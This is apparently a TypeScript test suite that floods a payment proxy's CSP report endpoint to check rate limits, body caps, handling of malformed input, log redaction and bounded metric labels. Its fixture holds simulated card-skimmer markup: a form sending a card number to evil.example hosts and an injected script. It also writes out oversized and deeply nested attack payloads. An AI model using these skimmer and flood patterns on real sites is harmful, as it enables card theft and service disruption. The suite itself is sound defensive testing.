/**
 * Floods from the outside. The report collector (`/.well-known/payguard/csp-report`) is open to
 * anyone, and a tampered page or a report names whatever hosts an attacker likes. Invariants:
 * the collector's rate limits hold (per client, per IPv6 /64, and in total), bodies are capped,
 * malformed ones are refused without harm, the proxy keeps serving pages meanwhile, and the number
 * of time series in /metrics stays bounded however many distinct origins, paths and user agents
 * the flood carries.
 */
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStorefront, type Storefront } from '../helpers/upstreams.js';
import { Scrape } from '../observe/prom.js';
import { NAVIGATION, page, startHarness, type Harness } from '../proxy/support.js';
import { REPORT_BUDGET, REPORT_RATE } from '../../src/proxy/browser/layer.js';
import { rateLimitKey } from '../../src/proxy/browser/report-collector.js';
import { exchange } from './hostile/raw-client.js';

const REPORT_PATH = '/.well-known/payguard/csp-report';
const ORIGIN_LABEL_CAP = 50;

let storefront: Storefront;
let harness: Harness;

beforeAll(async () => {
  storefront = await startStorefront({
    '/checkout/ok': { headers: [['content-type', 'text/html']], body: page('clean-checkout.html') },
    // A tampered page naming a different skimmer host on every request (the label flood's source).
    '/report/tampered': (req, res) => {
      const n = new URL(req.url ?? '/', 'http://x').searchParams.get('n') ?? '0';
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!DOCTYPE html><title>t</title><form action="https://skim${n}.evil.example/collect?cc=4111111111111111"><input name=cc></form><script src="https://cdn${n}.evil.example/s.js"></script>`);
    },
  });
  // 127.0.0.1 is a trusted proxy here, so X-Forwarded-For names the client: one test machine plays many.
  harness = await startHarness(storefront, { trustedProxies: ['127.0.0.1'] });
});

afterAll(async () => {
  await harness?.stop();
  await storefront?.close();
});

function legacyReport(blocked: string, directive = 'connect-src'): string {
  return JSON.stringify({ 'csp-report': { 'document-uri': 'https://shop.example/checkout/pay?cc=4111111111111111', 'effective-directive': directive, 'blocked-uri': blocked, disposition: 'enforce' } });
}

async function postReport(body: string, headers: Record<string, string> = {}): Promise<number> {
  const res = await request(`${harness.payguard.publicUrl}${REPORT_PATH}`, {
    method: 'POST',
    headers: { 'content-type': 'application/csp-report', ...headers },
    body,
  });
  await res.body.dump();
  return res.statusCode;
}

/** Runs `task(i)` for i in [0, count) with at most `width` in flight. */
async function inBatches<T>(count: number, width: number, task: (i: number) => Promise<T>): Promise<T[]> {
  const results: T[] = [];
  for (let start = 0; start < count; start += width) {
    results.push(...(await Promise.all(Array.from({ length: Math.min(width, count - start) }, (_, k) => task(start + k)))));
  }
  return results;
}

async function scrape(): Promise<{ text: string; scrape: Scrape }> {
  const text = await (await request(`${harness.payguard.adminUrl}/metrics`)).body.text();
  return { text, scrape: new Scrape(text) };
}

/** Series payguard itself exports (process_* and nodejs_* are fixed by prom-client). */
function payguardSeries(text: string): number {
  return text.split('\n').filter((l) => l.startsWith('payguard_')).length;
}

/** The most a bucket can have granted since `started`: its burst plus its refill over the elapsed time. */
function refillBound(rate: { burst: number; perSecond: number }, started: number): number {
  return rate.burst + Math.ceil(((performance.now() - started) / 1000) * rate.perSecond) + 1;
}

/** A directive-shaped name per number (letters only, as the report parser accepts). */
function letters(n: number): string {
  return [...n.toString(26)].map((c) => String.fromCharCode(97 + parseInt(c, 26))).join('');
}

function count(statuses: number[], status: number): number {
  return statuses.filter((s) => s === status).length;
}

describe('CSP report flood', () => {
  it('one client: a burst is taken, the rest of a flood is refused with 429', async () => {
    const client = { 'x-forwarded-for': '198.51.100.7' };
    const started = performance.now();
    const statuses = await inBatches(600, 30, (i) => postReport(legacyReport(`https://one${i}.evil.example/x`), client));
    // Not a timing assertion: an upper bound that grows with however long the run took.
    expect(count(statuses, 204)).toBeGreaterThanOrEqual(REPORT_RATE.burst);
    expect(count(statuses, 204)).toBeLessThanOrEqual(refillBound(REPORT_RATE, started));
    expect(count(statuses, 429)).toBe(600 - count(statuses, 204));
  });

  it('addresses rotated inside one IPv6 /64 share one bucket', async () => {
    expect(rateLimitKey('2001:db8:1:2::17')).toBe(rateLimitKey('2001:db8:1:2:ffff:1:2:3'));
    expect(rateLimitKey('2001:db8:1:3::17')).not.toBe(rateLimitKey('2001:db8:1:2::17'));
    expect(rateLimitKey('203.0.113.9')).toBe('203.0.113.9');
    const started = performance.now();
    const statuses = await inBatches(400, 30, (i) => postReport(legacyReport('https://v6.evil.example/'), { 'x-forwarded-for': `2001:db8:1:2:${i.toString(16)}::1` }));
    expect(count(statuses, 204)).toBeLessThanOrEqual(refillBound(REPORT_RATE, started));
  });

  it('many clients: the total budget bounds what is taken, and pages are served throughout', async () => {
    const flooders = REPORT_BUDGET.burst + 1_500;
    const pages: Promise<number>[] = [];
    const started = performance.now();
    const statuses = await inBatches(flooders, 50, (i) => {
      if (i % 250 === 0) {
        pages.push(request(`${harness.payguard.publicUrl}/checkout/ok`, { headers: NAVIGATION }).then(async (r) => (await r.body.dump(), r.statusCode)));
      }
      return postReport(legacyReport(`https://many${i}.evil.example/x?cc=4111111111111111`, i % 2 ? 'script-src-elem' : `made-up-${letters(i)}`), { 'x-forwarded-for': `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}` });
    });
    // Every client is new (a full bucket of its own): only the total budget can refuse them.
    expect(count(statuses, 204)).toBeLessThanOrEqual(refillBound(REPORT_BUDGET, started));
    expect(count(statuses, 204)).toBeGreaterThanOrEqual(Math.min(flooders, REPORT_BUDGET.burst) - 60);
    expect(count(statuses, 204) + count(statuses, 429)).toBe(flooders);
    expect(await Promise.all(pages)).toEqual(Array(pages.length).fill(200));
  });

  it('a body over the cap is refused (413) and the connection closed without reading the rest', async () => {
    const head = `POST ${REPORT_PATH} HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/csp-report\r\nX-Forwarded-For: 192.0.2.50\r\nContent-Length: ${64 * 1024 * 1024}\r\n\r\n`;
    const { statuses, timedOut } = await exchange(harness.payguard.publicUrl, Buffer.concat([Buffer.from(head), Buffer.alloc(1024 * 1024, 0x7b)]));
    expect(timedOut).toBe(false);
    expect(statuses).toEqual([413]);
  });

  it.each([
    ['not JSON', 'application/csp-report', '{"csp-report": '],
    ['JSON of the wrong shape', 'application/csp-report', '[1, 2, 3]'],
    ['a wrong content type', 'text/plain', legacyReport('https://x.evil.example/')],
    ['deeply nested JSON', 'application/reports+json', '['.repeat(30_000) + ']'.repeat(30_000)],
    ['a Reporting API batch of junk', 'application/reports+json', JSON.stringify(Array.from({ length: 2_000 }, (_, i) => ({ type: 'csp-violation', body: i % 2 ? null : { effectiveDirective: 7 } })))],
    ['invalid UTF-8', 'application/csp-report', Buffer.from([0x7b, 0xff, 0xfe, 0x7d]).toString('latin1')],
  ])('%s: refused or ignored, never a crash', async (_name, type, body) => {
    const status = await postReport(body, { 'content-type': type, 'x-forwarded-for': `192.0.2.${body.length % 200}` });
    expect([204, 400, 413, 429]).toContain(status);
    const ok = await request(`${harness.payguard.publicUrl}/checkout/ok`, { headers: NAVIGATION });
    await ok.body.dump();
    expect(ok.statusCode).toBe(200);
  });

  it('every accepted report is one log line, with no query string', async () => {
    const lines = harness.logLines().filter((l) => l['event'] === 'csp-report');
    expect(lines.length).toBeGreaterThan(0);
    const leaking = harness.logText().split('\n').filter((l) => l.includes('4111111111111111'));
    expect(leaking).toEqual([]);
  });
});

describe('metrics-label flood', () => {
  it('thousands of skimmer hosts, paths and user agents: the series count stays bounded', async () => {
    const before = payguardSeries((await scrape()).text);
    await inBatches(1_500, 25, async (i) => {
      const res = await request(`${harness.payguard.publicUrl}/report/tampered?n=${i}`, {
        headers: { ...NAVIGATION, 'user-agent': `flood-agent/${i}`, 'x-forwarded-for': `172.16.${i >> 8}.${i & 255}` },
      });
      await res.body.dump();
      return res.statusCode;
    });
    await inBatches(300, 25, (i) => request(`${harness.payguard.publicUrl}/flood/${i}/x.html`, { headers: { ...NAVIGATION, 'user-agent': `ua-${i}` } }).then((r) => r.body.dump()));
    const { text, scrape: s } = await scrape();
    const violationOrigins = new Set(s.samples('payguard_violations_total').map((x) => x.labels['origin']));
    expect(violationOrigins.size).toBeLessThanOrEqual(ORIGIN_LABEL_CAP + 1);
    expect(violationOrigins.has('other')).toBe(true);
    expect(s.sum('payguard_violations_total')).toBeGreaterThanOrEqual(1_500 * 2);
    const cspOrigins = new Set(s.samples('payguard_csp_reports_total').map((x) => x.labels['blocked_origin']));
    expect(cspOrigins.size).toBeLessThanOrEqual(ORIGIN_LABEL_CAP + 1);
    const directives = new Set(s.samples('payguard_csp_reports_total').map((x) => x.labels['directive']));
    // Made-up directive names from the flood above fold into "other".
    expect([...directives].filter((d) => d?.startsWith('made-up'))).toEqual([]);
    // Routes come from the policy (4 routes) and "unmatched"; no path or user agent is a label.
    const routes = new Set(s.samples('payguard_responses_total').map((x) => x.labels['route']));
    expect(routes.size).toBeLessThanOrEqual(5);
    expect(text).not.toMatch(/flood-agent|ua-\d|\/flood\/\d/);
    // The whole exposition: a few hundred payguard series at most, whatever the flood carried.
    const after = payguardSeries(text);
    if (process.env['HOSTILE_VERBOSE']) console.info(`payguard_* series: ${before} before the label flood, ${after} after`);
    expect(after).toBeLessThan(600);
    expect(after - before).toBeLessThan(300);
  });
});
